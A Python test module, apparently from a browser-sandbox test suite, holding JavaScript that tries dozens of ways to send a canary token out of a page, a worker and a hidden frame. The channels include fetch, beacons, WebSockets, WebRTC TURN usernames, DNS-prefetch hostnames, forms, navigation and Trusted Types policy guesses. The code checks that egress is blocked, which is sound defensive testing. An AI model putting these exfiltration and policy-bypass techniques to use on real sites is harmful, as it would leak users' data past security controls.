"""Every way out that a script could try, as JavaScript: from a page, by leaving a page, and from inside a worker."""

from __future__ import annotations

# What all of them get: `at(channel)` is an address that carries the canary, `token(channel)` the canary itself.
_COMMON = """
const settle = async (work) => {
  try {
    await Promise.race([work(), new Promise((done) => setTimeout(done, 500))])
  } catch {
    // Refused, which is what the test hopes for.
  }
}
const token = (channel) => `${canary}-${channel}`
const at = (channel) => `${target}x/${token(channel)}?${token(channel)}`
const named = (body) => `http://${body}.localhost:${new URL(target).port}/`
"""

# The same in pages and workers.
_ANYWHERE = """
const anywhere = {
  fetch: (url, body) => fetch(url, { method: 'POST', mode: 'no-cors', body }),
  fetchget: (url) => fetch(url, { mode: 'no-cors' }),
  fetchhost: (url, body) => fetch(named(body), { mode: 'no-cors' }),
  keepalive: (url, body) => fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body }),
  xhr: (url, body) => new Promise((done) => {
    const request = new XMLHttpRequest()
    request.onloadend = done
    request.open('POST', url)
    request.send(body)
  }),
  websocket: (url, body) => new Promise((done) => {
    const socket = new WebSocket(url.replace('http', 'ws'))
    socket.onopen = () => { socket.send(body); setTimeout(done, 50) }
    socket.onerror = done
  }),
  eventsource: (url) => new Promise((done) => { new EventSource(url).onerror = done }),
  webtransport: (url) => new WebTransport(url.replace('http:', 'https:')).ready,
  import: (url) => import(url),
  cacheadd: async (url) => (await caches.open('egress')).add(url),
  fontface: (url) => new FontFace('egress', `url(${url})`).load(),
  worker: (url) => new Promise((done) => { new Worker(trusted(url), { type: 'module' }).onerror = done }),
  oldworker: (url) => new Promise((done) => { new Worker(trusted(url)).onerror = done }),
  blobworker: (url, body) => new Promise((done) => {
    const script = new Blob([`fetch(${JSON.stringify(url)}, { method: 'POST', mode: 'no-cors', body: '${body}' }).finally(() => postMessage(1))`])
    const worker = new Worker(trusted(URL.createObjectURL(script)))
    worker.onmessage = worker.onerror = done
  }),
}
"""

# A policy of Trusted Types for whoever gets one made: a hostile script would try each name that the page allows.
_TRUSTED = """
const policies = (realm) => realm.policiesMade ??= ['edgeweb', 'lit-html', 'default', 'egress'].flatMap((name) => {
  try {
    return [realm.trustedTypes.createPolicy(name, { createScriptURL: (url) => url, createHTML: (text) => text, createScript: (text) => text })]
  } catch {
    return []
  }
})
"""

IN_PAGE = (
    "async ([target, canary]) => {"
    + _COMMON
    + _TRUSTED
    + """
const frame = document.createElement('iframe')
document.body.append(frame)
const inner = frame.contentWindow
const [found] = [...policies(globalThis), ...policies(inner)]
const trusted = (url) => found?.createScriptURL(url) ?? url
"""
    + _ANYWHERE
    + """
const add = (tag, attributes, parent = document.body) => {
  const element = parent.ownerDocument.createElement(tag)
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, name === 'src' && tag === 'script' ? trusted(value) : value)
  parent.append(element)
  return element
}
const inHead = (tag, attributes) => { add(tag, attributes, document.head) }
const link = (rel, more = {}) => (url) => inHead('link', { rel, href: url, ...more })
const form = (method, more = {}) => (url, body) => {
  const element = add('form', { action: url, method, target: add('iframe', { name: `egress-${method}` }).name, ...more })
  add('input', { name: 'canary', value: body }, element)
  element.submit()
}
const style = (text) => {
  const sheet = new CSSStyleSheet()
  sheet.replaceSync(text)
  document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
}
const ping = (url) => { add('a', { href: '#egress', ping: url }).click() }
const register = async (url) => navigator.serviceWorker.register(trusted(url))
const messages = async (url, body) => {
  const all = (await navigator.serviceWorker.getRegistrations()).flatMap(({ active, waiting, installing }) => [active, waiting, installing])
  for (const worker of all.filter(Boolean)) {
    for (const type of ['check', 'ready', 'off', 'roll-back', 'take', body]) worker.postMessage({ type, release: body, url, path: url, base: url })
    worker.postMessage(url)
  }
}
const page = {
  ...anywhere,
  beacon: (url, body) => navigator.sendBeacon(url, body),
  fetchlater: (url) => fetchLater(url, { method: 'POST', body: 'x', activateAfter: 0 }),
  sharedworker: (url) => { new SharedWorker(trusted(url)) },
  register, messages, ping,
  image: (url) => { new Image().src = url },
  imagehost: (url, body) => { new Image().src = named(body) },
  srcset: (url) => add('img', { srcset: `${url} 2x` }),
  imageinput: (url) => add('input', { type: 'image', src: url }),
  video: (url) => add('video', { src: url, preload: 'auto' }).load(),
  poster: (url) => add('video', { poster: url }),
  audio: (url) => add('audio', { src: url, preload: 'auto' }).load(),
  track: (url) => { add('track', { src: url, default: '' }, add('video', {})).track.mode = 'showing' },
  script: (url) => inHead('script', { src: url }),
  modulescript: (url) => inHead('script', { src: url, type: 'module' }),
  stylesheet: link('stylesheet'), preload: link('preload', { as: 'image' }), modulepreload: link('modulepreload'),
  prefetch: link('prefetch'), preconnect: (url, body) => inHead('link', { rel: 'preconnect', href: named(body) }),
  dnsprefetch: (url, body) => inHead('link', { rel: 'dns-prefetch', href: named(body) }),
  icon: link('icon'), manifest: link('manifest'),
  iframe: (url) => add('iframe', { src: url }),
  object: (url) => add('object', { data: url }), embed: (url) => add('embed', { src: url }),
  svgimage: (url) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
    image.setAttribute('href', url)
    svg.append(image)
    document.body.append(svg)
  },
  cssimport: (url) => { inHead('style', {}); document.head.lastChild.textContent = `@import url(${url});` },
  cssimage: (url) => add('div', { style: `background: url(${url})` }).getBoundingClientRect(),
  cssom: (url) => style(`body { background-image: url(${url}) }`),
  cssproperty: (url) => { add('div', {}).style.backgroundImage = `url(${url})` },
  cssfont: (url) => { style(`@font-face { font-family: egress; src: url(${url}) } body { font-family: egress }`) },
  worklet: (url) => new AudioContext().audioWorklet.addModule(url),
  backgroundfetch: async (url) => (await navigator.serviceWorker.ready).backgroundFetch.fetch('egress', url),
  speculation: (url) => { inHead('script', { type: 'speculationrules' }); document.head.lastChild.textContent = JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }], prerender: [{ urls: [url], eagerness: 'immediate' }] }) },
  form: form('post'), formget: form('get'),
  framefetch: (url, body) => inner.fetch(url, { method: 'POST', mode: 'no-cors', body }),
  frameimage: (url) => { new inner.Image().src = url },
  framenavigation: (url) => { const other = add('iframe', {}); other.contentWindow.location = url },
  srcdoc: (url) => { const other = add('iframe', {}); other.srcdoc = found?.createHTML(`<img src="${url}">`) ?? `<img src="${url}">` },
}
await Promise.all(Object.entries(page).map(([name, work]) => settle(async () => work(at(name), token(name)))))
await new Promise((done) => setTimeout(done, 300))
return Object.keys(page)
}"""
)

# By UDP, and by TURN over TCP: the page's own means, and those of a frame that it makes.
WEBRTC = (
    "async ([target, canary]) => {"
    + _COMMON
    + """
const frame = document.createElement('iframe')
document.body.append(frame)
const connect = async (Connection, channel) => {
  const servers = [{ urls: `stun:${new URL(target).host}` }, { urls: `turn:${new URL(target).host}?transport=tcp`, username: token(channel), credential: 'x' }]
  const connection = new Connection({ iceServers: servers })
  connection.createDataChannel('egress')
  await connection.setLocalDescription(await connection.createOffer())
  await new Promise((done) => setTimeout(done, 400))
}
for (const [name, realm] of [['webrtc', globalThis], ['framewebrtc', frame.contentWindow]]) {
  await settle(() => connect(realm.RTCPeerConnection, name))
}
return ['webrtc', 'framewebrtc']
}"""
)

# Each leaves the page or opens another, or tries to, a moment later: the answer to the test must not be lost with the page.
LEAVING = {
    name: f"(url) => {{ setTimeout(() => {{ {work} }}, 20) }}"
    for name, work in {
        "location": "location = url",
        "replace": "location.replace(url)",
        "link": "const a = document.createElement('a'); a.href = url; document.body.append(a); a.click()",
        "open": "window.open(url)",
        "noopener": "window.open(url, '_blank', 'noopener')",
        "linkblank": "const a = document.createElement('a'); a.href = url; a.target = '_blank'; document.body.append(a); a.click()",
        "download": "const a = document.createElement('a'); a.href = url; a.download = 'x'; document.body.append(a); a.click()",
        "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${url}`; document.head.append(m)",
        "submit": "const f = document.createElement('form'); f.action = url; f.method = 'post'; document.body.append(f); f.submit()",
        "reload": "history.pushState(null, '', url); location.reload()",
    }.items()
}

_WORKER = (
    "const tries = async ([target, canary]) => {"
    + _COMMON
    + _TRUSTED
    + """
const [found] = policies(globalThis)
const trusted = (url) => found?.createScriptURL(url) ?? url
"""
    + _ANYWHERE
    + """
const attempt = ([name, work]) => settle(async () => work(at('w' + name), token('w' + name)))
await Promise.all(Object.entries(anywhere).map(attempt))
// After the others: it blocks this worker, and with it the answers that hold the connections.
const last = ['importscripts', (url) => importScripts(trusted(url))]
await attempt(last)
await new Promise((done) => setTimeout(done, 300))
return [...Object.keys(anywhere), last[0]].map((name) => 'w' + name)
}"""
)

# For the page's own compute worker, where the browser's tools reach into it.
IN_WORKER = f"(given) => {{ {_WORKER}; return tries(given) }}"

# A hostile worker, made as the page makes its own: in the hidden frame, by that frame's own means.
IN_HOSTILE_WORKER = (
    "(given) => new Promise((resolve) => {"
    + _TRUSTED
    + """
  const realm = [...document.querySelectorAll('iframe')].find((frame) => frame.hidden).contentWindow
  const script = `${WORKER}; onmessage = async ({ data }) => postMessage(await tries(data))`
  const url = realm.URL.createObjectURL(new realm.Blob([script], { type: 'text/javascript' }))
  const [found] = policies(realm)
  const worker = new realm.Worker(found?.createScriptURL(url) ?? url)
  worker.onmessage = ({ data }) => resolve(data)
  worker.onerror = (event) => resolve([`did not start: ${event.message}`])
  setTimeout(() => resolve(['did not answer']), 20_000)
  worker.postMessage(given)
})""".replace("${WORKER}", _WORKER.replace("\\", "\\\\").replace("`", "\\`").replace("${", "\\${"))
)
